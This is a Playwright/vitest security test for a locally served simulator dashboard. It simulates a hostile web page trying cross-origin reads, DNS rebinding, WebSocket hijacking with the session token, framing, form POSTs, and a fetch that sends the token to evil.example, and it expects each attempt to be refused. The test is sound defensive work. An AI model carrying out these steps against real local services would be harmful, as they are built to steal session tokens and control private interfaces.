import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { chromium, type Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { havePeers } from '../fixtures/peers.ts'
import { startSimulatorProcess, type SimulatorProcess } from '../fixtures/simulator-process.ts'

/**
 * The board for browsers, attacked by a foreign page: from another origin, and from the attacker's own name redirected
 * to this machine (DNS rebinding). The page knows the port and, in one case, the token.
 */
describe.skipIf(!havePeers('chromium'))("a hostile page in the user's browser", () => {
  let simulator: SimulatorProcess
  let browser: Browser
  let site: Server
  let port: number
  let token: string
  /** Requests that reached the attacker's own server. */
  const stolen: string[] = []

  beforeAll(async () => {
    simulator = await startSimulatorProcess(['--ui', '0', '--lab', 'off'])
    const ui = new URL(simulator.ready.ui!)
    port = Number(ui.port)
    token = ui.hash.slice('#token='.length)
    site = createServer((request, response) => {
      stolen.push(request.url ?? '')
      response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>attacker</title><body>')
    })
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve))
    browser = await chromium.launch({
      executablePath: process.env['CHROMIUM'] ?? '/usr/bin/chromium',
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--host-resolver-rules=MAP *.example 127.0.0.1'
      ]
    })
  })

  afterAll(async () => {
    await browser?.close()
    site?.close()
    await simulator?.stop()
  })

  async function attackerPage(host: string) {
    const page = await browser.newPage()
    await page.goto(`http://${host}:${(site.address() as AddressInfo).port}/`)
    return page
  }

  /** Returns whether a WebSocket stayed open, or how it ended. */
  const trySocket = (url: string): Promise<string> =>
    new Promise((resolve) => {
      const socket = new WebSocket(url)
      let state = 'never opened'
      socket.onopen = () => {
        state = 'opened'
        socket.send('{"id":1,"call":"snapshot","args":[]}')
      }
      socket.onmessage = () => resolve('answered')
      socket.onclose = ({ code }) => resolve(`${state}, closed with ${code}`)
    })

  test('from its own origin reads nothing, and gets no WebSocket even with the token', async () => {
    const page = await attackerPage('evil.example')
    const read = await page.evaluate(
      async (at) =>
        await fetch(`${at}/index.html`).then(
          (answer) => answer.text(),
          () => 'refused'
        ),
      `http://127.0.0.1:${port}`
    )
    expect(read).toBe('refused')
    const opaque = await page.evaluate(
      async (at) =>
        await fetch(`${at}/index.html`, { mode: 'no-cors' }).then(
          (answer) => answer.type,
          () => 'refused'
        ),
      `http://127.0.0.1:${port}`
    )
    // Because of Cross-Origin-Resource-Policy, even bytes that a page cannot read stay out of its process.
    expect(opaque).toBe('refused')
    for (const host of ['127.0.0.1', 'localhost']) {
      for (const query of ['', `?token=${'0'.repeat(64)}`, `?token=${token}`]) {
        expect(await page.evaluate(trySocket, `ws://${host}:${port}/api${query}`)).toBe(
          'never opened, closed with 1006'
        )
      }
    }
    await page.close()
  })

  test('cannot put the board into a frame, run its scripts, or post a form to it', async () => {
    const page = await attackerPage('evil.example')
    const board = `http://127.0.0.1:${port}/`
    const framed = await page.evaluate(async (src) => {
      const frame = Object.assign(document.createElement('iframe'), { src })
      document.body.append(frame)
      await new Promise((resolve) => frame.addEventListener('load', resolve))
      return frame.contentDocument === null ? frame.contentWindow!.length : -1
    }, board)
    expect(framed).toBe(0)
    const inside = page.frames().find((frame) => frame !== page.mainFrame())!
    await expect.poll(() => inside.url()).toMatch(/^chrome-error:/)
    const html = await (await fetch(board)).text()
    const script = /src="\.?(\/assets\/[^"]+\.js)"/.exec(html)![1]!
    expect(
      await page.evaluate(
        async (src) =>
          await new Promise((resolve) => {
            const element = Object.assign(document.createElement('script'), { src, type: 'text/javascript' })
            element.onload = () => resolve('ran')
            element.onerror = () => resolve('refused')
            document.body.append(element)
          }),
        new URL(script, board).href
      )
    ).toBe('refused')
    const posted = page.waitForResponse((answer) => answer.request().method() === 'POST')
    await page.evaluate((action) => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: `${action}api` })
      document.body.append(form)
      form.submit()
    }, board)
    expect((await posted).status()).toBe(403)
    await page.close()
  })

  test('whose name was re-pointed to this machine is turned away by its name', async () => {
    const page = await browser.newPage()
    const answer = await page.goto(`http://rebound.example:${port}/`)
    expect(answer!.status()).toBe(403)
    expect(await page.textContent('body')).toContain(`This server answers at 127.0.0.1:${port} only.`)
    // To the browser it is the same origin now: requests have no Origin header to check.
    expect(await page.evaluate(async () => (await fetch('/index.html')).status)).toBe(403)
    expect(await page.evaluate(trySocket, `ws://rebound.example:${port}/api?token=${token}`)).toBe(
      'never opened, closed with 1006'
    )
    await page.close()
  })

  test('learns nothing from the board that the user opens: no referrer, no opener, no token in a request', async () => {
    const page = await attackerPage('evil.example')
    const [board] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate(
        (url) => void Object.assign(window, { board: window.open(url) }),
        `http://127.0.0.1:${port}/#token=${token}`
      )
    ])
    await board.locator('[role="toolbar"]').waitFor()
    expect(await board.evaluate(() => window.opener)).toBeNull()
    expect(
      await page.evaluate(() => {
        const { board: opened } = window as unknown as { board: Window | null }
        return opened === null || opened.closed
      })
    ).toBe(true)
    expect(await board.evaluate(() => document.cookie)).toBe('')
    // The board's own policy: an injected script could not send anything out.
    expect(
      await board.evaluate(
        async (at) =>
          await fetch(at).then(
            () => 'sent',
            () => 'refused'
          ),
        `http://evil.example:${(site.address() as AddressInfo).port}/?${token}`
      )
    ).toBe('refused')
    expect(stolen.join('\n')).not.toContain(token)
    await page.close()
  })
})
